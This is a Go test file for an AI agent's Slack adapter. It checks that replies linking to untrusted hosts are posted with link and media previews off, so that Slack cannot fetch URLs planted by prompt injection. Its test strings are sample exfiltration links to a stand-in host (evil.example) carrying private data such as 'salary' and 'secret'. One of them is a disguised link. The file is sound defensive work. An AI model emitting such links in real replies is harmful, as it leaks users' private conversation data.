package slack

import (
	"context"
	"testing"
	"time"

	"github.com/talonhq/talon/agent"
)

// A reply with a link to a host that is not trusted is posted with
// Slack's link and media previews off, so that Slack's servers do not
// fetch a URL a prompt injection put the conversation in; a reply whose
// links are all trusted unfurls as before. A streamed preview and its
// edits never unfurl.
func TestRepliesDoNotUnfurlUntrustedLinks(t *testing.T) {
	trusted, err := agent.ParseTrustedHosts([]string{"docs.example.com"})
	if err != nil {
		t.Fatal(err)
	}
	fs := newFakeSlack(t)
	ad := newBareAdapter(t, fs)
	ad.Config.TrustedLinks = trusted
	ctx := context.Background()
	to := replyTo{Channel: "C1", Thread: "1.1"}.encode()
	for i, tc := range []struct {
		text, want string
	}{
		{"See https://docs.example.com/guide", "/"},
		{"Here: [the guide](https://evil.example/?d=the+private+thread)", "false/false"},
		{"![chart](https://evil.example/i.png?d=salary)", "false/false"},
		{"<https://evil.example/?d=x|https://docs.example.com>", "false/false"},
		{"evil.example/?d=x and https://docs.example.com/", "false/false"},
		{"No link at all.", "false/false"},
	} {
		if _, err := ad.Deliver(ctx, agent.Reply{ID: agent.ReplyID(i + 1), Kind: agent.ReplyAnswer, Text: tc.text, ReplyTo: to}); err != nil {
			t.Fatal(err)
		}
		posts := fs.messages("chat.postMessage")
		if got := posts[len(posts)-1].Unfurl; got != tc.want {
			t.Errorf("%q posted with unfurl %q, want %q", tc.text, got, tc.want)
		}
	}

	fs2 := newFakeSlack(t)
	st := newBareAdapter(t, fs2)
	st.Config.TrustedLinks = trusted
	st.Config.StreamEdits, st.Config.StreamInterval = true, time.Second
	clock := newFakeClock(0)
	st.Now, st.Sleep = clock.Now, clock.Sleep
	st.Stream(ctx, 1, agent.SessionKey{}, to, "Sending it to https://evil.example/?d=")
	if _, err := st.Deliver(ctx, agent.Reply{ID: 1, Inbound: 1, Kind: agent.ReplyAnswer, Text: "Sending it to https://evil.example/?d=secret", ReplyTo: to}); err != nil {
		t.Fatal(err)
	}
	out := outgoing(fs2)
	if len(out) < 2 {
		t.Fatalf("calls %+v, want a preview and its edit", out)
	}
	for _, m := range out {
		if m.Unfurl != "false/false" {
			t.Errorf("%s of the streamed reply with unfurl %q, want false/false", m.Method, m.Unfurl)
		}
	}
}
